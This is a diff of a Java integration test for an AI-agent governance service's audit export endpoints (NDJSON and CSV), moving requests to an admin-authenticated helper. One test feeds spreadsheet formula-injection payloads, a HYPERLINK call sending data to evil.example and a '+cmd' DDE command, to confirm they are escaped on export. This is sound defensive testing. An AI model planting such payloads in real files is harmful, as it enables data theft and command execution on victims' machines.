@@ -5,6 +5,7 @@ import com.fasterxml.jackson.databind.MappingIterator;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.dataformat.csv.CsvMapper;
 import com.fasterxml.jackson.dataformat.csv.CsvSchema;
+import dev.governor.testing.RegisteredAgent;
 import io.quarkus.test.junit.QuarkusTest;
 import io.restassured.path.json.JsonPath;
 import org.junit.jupiter.api.Test;
@@ -13,7 +14,7 @@ import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 
-import static io.restassured.RestAssured.given;
+import static dev.governor.testing.TestAuth.asAdmin;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.hamcrest.Matchers.hasItem;
 import static org.hamcrest.Matchers.startsWith;
@@ -26,18 +27,18 @@ class AuditExportTest {
 
     @Test
     void decisionsExportAsNdjsonMatchesTheStoredRecords() throws Exception {
-        String agent = Fixtures.agent("ROUTINE", List.of("sandbox", "production"), List.of("config:*"));
+        RegisteredAgent agent = Fixtures.agent("ROUTINE", List.of("sandbox", "production"), List.of("config:*"));
         List<String> ids = List.of(
                 Fixtures.decisionId(agent, Fixtures.action("config.update", "sandbox", "cfg/a")),
                 Fixtures.decisionId(agent, Fixtures.action("database.drop", "production", "db/main")),
                 Fixtures.decisionId(agent, Fixtures.action("config.update", "production", "cfg/b")));
 
-        List<JsonNode> rows = ndjson(given().queryParam("agentId", agent).get("/v1/audit/decisions").then()
+        List<JsonNode> rows = ndjson(asAdmin().queryParam("agentId", agent.id()).get("/v1/audit/decisions").then()
                 .statusCode(200).contentType("application/x-ndjson").extract().asString());
 
         assertThat(rows).extracting(r -> r.get("decisionId").asText()).containsExactlyElementsOf(ids);
         for (JsonNode row : rows) {
-            JsonNode stored = JSON.readTree(given().get("/v1/decisions/{id}", row.get("decisionId").asText()).asString());
+            JsonNode stored = JSON.readTree(asAdmin().get("/v1/decisions/{id}", row.get("decisionId").asText()).asString());
             assertThat(row.get("agentId")).isEqualTo(stored.get("agentId"));
             assertThat(row.get("outcome")).isEqualTo(stored.get("response").get("outcome"));
             assertThat(row.get("policyVersion")).isEqualTo(stored.get("policyVersion"));
@@ -51,42 +52,42 @@ class AuditExportTest {
 
     @Test
     void decisionsExportAsCsvMatchesTheStoredRecordsAndFiltersByOutcome() throws Exception {
-        String agent = Fixtures.agent("ROUTINE", List.of("sandbox"), List.of("config:*"));
+        RegisteredAgent agent = Fixtures.agent("ROUTINE", List.of("sandbox"), List.of("config:*"));
         String allowed = Fixtures.decisionId(agent, Fixtures.action("config.update", "sandbox", "cfg/a"));
         String denied = Fixtures.decisionId(agent, Fixtures.action("database.drop", "sandbox", "db/main"));
 
-        List<Map<String, String>> rows = csv(given().queryParam("agentId", agent).queryParam("format", "csv")
+        List<Map<String, String>> rows = csv(asAdmin().queryParam("agentId", agent.id()).queryParam("format", "csv")
                 .get("/v1/audit/decisions").then().statusCode(200).contentType(startsWith("text/csv")).extract().asString());
         assertThat(rows).extracting(r -> r.get("decision_id")).containsExactly(allowed, denied);
         for (Map<String, String> row : rows) {
-            JsonPath stored = given().get("/v1/decisions/{id}", row.get("decision_id")).jsonPath();
+            JsonPath stored = asAdmin().get("/v1/decisions/{id}", row.get("decision_id")).jsonPath();
             assertThat(row.get("outcome")).isEqualTo(stored.getString("response.outcome"));
-            assertThat(row.get("agent_id")).isEqualTo(agent);
+            assertThat(row.get("agent_id")).isEqualTo(agent.id());
             assertThat(row.get("target")).isEqualTo(stored.getString("request.action.target"));
             assertThat(row.get("reason_codes")).isEqualTo(String.join(";", stored.getList("response.reasons.code")));
             assertThat(row.get("policy_version")).isEqualTo(stored.getString("policyVersion"));
         }
 
-        List<Map<String, String>> deniedOnly = csv(given().queryParam("agentId", agent).queryParam("outcome", "DENY")
+        List<Map<String, String>> deniedOnly = csv(asAdmin().queryParam("agentId", agent.id()).queryParam("outcome", "DENY")
                 .header("Accept", "text/csv").get("/v1/audit/decisions").then().statusCode(200)
                 .contentType(startsWith("text/csv")).extract().asString());
         assertThat(deniedOnly).extracting(r -> r.get("decision_id")).containsExactly(denied);
         String decidedAt = rows.get(1).get("decided_at");
-        assertThat(csv(given().queryParam("agentId", agent).queryParam("format", "csv").queryParam("from", decidedAt)
+        assertThat(csv(asAdmin().queryParam("agentId", agent.id()).queryParam("format", "csv").queryParam("from", decidedAt)
                 .get("/v1/audit/decisions").asString())).extracting(r -> r.get("decision_id")).containsExactly(denied);
-        assertThat(csv(given().queryParam("agentId", agent).queryParam("format", "csv").queryParam("to", decidedAt)
+        assertThat(csv(asAdmin().queryParam("agentId", agent.id()).queryParam("format", "csv").queryParam("to", decidedAt)
                 .get("/v1/audit/decisions").asString())).extracting(r -> r.get("decision_id")).containsExactly(allowed);
     }
 
     @Test
     void maliciousValuesSurviveCsvAsData() throws Exception {
-        String agent = Fixtures.agent("ROUTINE", List.of("sandbox"), List.of("config:*"));
+        RegisteredAgent agent = Fixtures.agent("ROUTINE", List.of("sandbox"), List.of("config:*"));
         String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\"), \"quoted\"\r\nsecond line";
         String target = "+cmd|' /C calc'!A0, @SUM(1), -1, \"x\"\nend";
         String id = Fixtures.decide(agent, Fixtures.action("config.update", "sandbox", target),
                 Map.of("sessionId", formula)).statusCode(200).extract().path("decisionId");
 
-        String body = given().queryParam("agentId", agent).queryParam("format", "csv").get("/v1/audit/decisions")
+        String body = asAdmin().queryParam("agentId", agent.id()).queryParam("format", "csv").get("/v1/audit/decisions")
                 .then().statusCode(200).extract().asString();
         List<Map<String, String>> rows = csv(body);
         assertThat(rows).hasSize(1);
@@ -95,19 +96,19 @@ class AuditExportTest {
         assertThat(rows.get(0).get("target")).isEqualTo("'" + target);
         assertThat(body).doesNotContain(",=HYPERLINK").doesNotContain("\n=").doesNotContain(",+cmd");
 
-        JsonNode row = ndjson(given().queryParam("agentId", agent).get("/v1/audit/decisions").asString()).get(0);
+        JsonNode row = ndjson(asAdmin().queryParam("agentId", agent.id()).get("/v1/audit/decisions").asString()).get(0);
         assertThat(row.get("sessionId").asText()).isEqualTo(formula);
         assertThat(row.at("/request/action/target").asText()).isEqualTo(target);
     }
 
     @Test
     void ruleFiringsExportHasOneRowPerRuleFiredOrTableRowMatched() throws Exception {
-        String agent = Fixtures.agent("ROUTINE", List.of("sandbox"), List.of("config:*"));
+        RegisteredAgent agent = Fixtures.agent("ROUTINE", List.of("sandbox"), List.of("config:*"));
         String id = Fixtures.decisionId(agent, Fixtures.action("database.drop", "sandbox", "db/main"));
-        JsonPath stored = given().get("/v1/decisions/{id}", id).jsonPath();
+        JsonPath stored = asAdmin().get("/v1/decisions/{id}", id).jsonPath();
         int fired = stored.getList("rulesFired").size() + stored.getList("tableRowsMatched").size();
 
-        List<Map<String, String>> rows = csv(given().queryParam("agentId", agent).queryParam("format", "csv")
+        List<Map<String, String>> rows = csv(asAdmin().queryParam("agentId", agent.id()).queryParam("format", "csv")
                 .get("/v1/audit/rule-firings").then().statusCode(200).extract().asString());
         assertThat(rows).hasSize(fired).allSatisfy(r -> {
             assertThat(r.get("decision_id")).isEqualTo(id);
@@ -120,7 +121,7 @@ class AuditExportTest {
                 .containsExactlyElementsOf(stored.getList("tableRowsMatched.rowId"));
         assertThat(rows).extracting(r -> r.get("reason_code")).contains("PERMISSION_NOT_GRANTED");
 
-        List<JsonNode> json = ndjson(given().queryParam("agentId", agent).queryParam("format", "ndjson")
+        List<JsonNode> json = ndjson(asAdmin().queryParam("agentId", agent.id()).queryParam("format", "ndjson")
                 .get("/v1/audit/rule-firings").asString());
         assertThat(json).hasSize(fired);
         assertThat(json).extracting(r -> r.get("seq").asInt()).isSorted();
@@ -131,20 +132,20 @@ class AuditExportTest {
         for (Object[] bad : new Object[][] {{"from", "yesterday"}, {"to", "2026-13-01"}, {"agentId", "Bad Id"},
                 {"outcome", "MAYBE"}, {"format", "xml"}}) {
             for (String path : List.of("/v1/audit/decisions", "/v1/audit/rule-firings")) {
-                given().queryParam((String) bad[0], bad[1]).get(path).then()
+                asAdmin().queryParam((String) bad[0], bad[1]).get(path).then()
                         .statusCode(400).contentType("application/problem+json")
                         .body("violations.field", hasItem(bad[0]));
             }
         }
-        given().queryParam("from", "2026-02-01T00:00:00Z").queryParam("to", "2026-01-01").get("/v1/audit/decisions")
+        asAdmin().queryParam("from", "2026-02-01T00:00:00Z").queryParam("to", "2026-01-01").get("/v1/audit/decisions")
                 .then().statusCode(400).body("violations.field", hasItem("to"));
     }
 
     @Test
     void theLogExportAndTheHashEndpointRejectWhatTheyCannotServe() {
-        given().queryParam("fromSeq", "0").get("/v1/audit/log").then()
+        asAdmin().queryParam("fromSeq", "0").get("/v1/audit/log").then()
                 .statusCode(400).body("violations.field", hasItem("fromSeq"));
-        given().contentType("application/json").body("{\"value\": \"x\"}").post("/v1/audit/hash").then()
+        asAdmin().contentType("application/json").body("{\"value\": \"x\"}").post("/v1/audit/hash").then()
                 .statusCode(409).contentType("application/problem+json"); // no key configured in this profile
     }
 
